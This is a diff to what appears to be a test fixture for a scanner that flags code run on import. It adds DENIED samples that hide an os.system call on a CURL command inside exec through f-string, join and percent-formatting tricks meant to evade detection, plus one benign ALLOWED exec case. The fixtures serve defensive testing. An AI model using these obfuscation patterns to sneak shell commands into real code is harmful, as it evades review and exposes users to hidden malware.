@@ -118,6 +118,18 @@ DENIED: dict[str, dict[str, str]] = {
         f"exec(compile({'import os; os.system(' + repr(CURL) + ')'!r} + '#' + sys.argv[0],"
         " 'x', 'exec'))\n"
     ),
+    "payload-exec-d-through-an-f-string": init(
+        f"import sys\nP = {'import os' + chr(10) + 'os.system(' + repr(CURL) + ')' + chr(10)!r}\n"
+        "exec(f'{P}{sys.argv[0][:0]}')\n"
+    ),
+    "payload-exec-d-through-a-join": init(
+        f"import sys\nP = {'import os' + chr(10) + 'os.system(' + repr(CURL) + ')' + chr(10)!r}\n"
+        "exec(''.join([P, sys.argv[0][:0]]))\n"
+    ),
+    "payload-exec-d-through-percent": init(
+        f"import sys\nP = {'import os' + chr(10) + 'os.system(' + repr(CURL) + ')' + chr(10)!r}\n"
+        "exec('%s%s' % (P, sys.argv[0][:0]))\n"
+    ),
     "shell-list-repeated-once": init(
         f"import subprocess\nsubprocess.run(['bash', '-c', {CURL!r}] * 1)\n"
     ),
@@ -157,6 +169,10 @@ ALLOWED: dict[str, dict[str, str]] = {
     "template-exec-d-with-fields-added-on-import": init(
         "import sys\nTEMPLATE = 'def _get(self):\\n    return self._data'\n"
         "exec(TEMPLATE + '[' + repr(sys.argv[0]) + ']', globals())\n"
+    ),
+    "accessor-exec-d-from-an-f-string-on-import": init(
+        "import sys\nNAME = sys.argv[0]\n"
+        "exec(f'def get_{NAME}(self):\\n    return self._fields[{NAME!r}]', globals())\n"
     ),
     "workflow-files-read-on-import": init(
         "import glob\nWORKFLOWS = sorted(glob.glob('.github/workflows/*.yml'))\n"
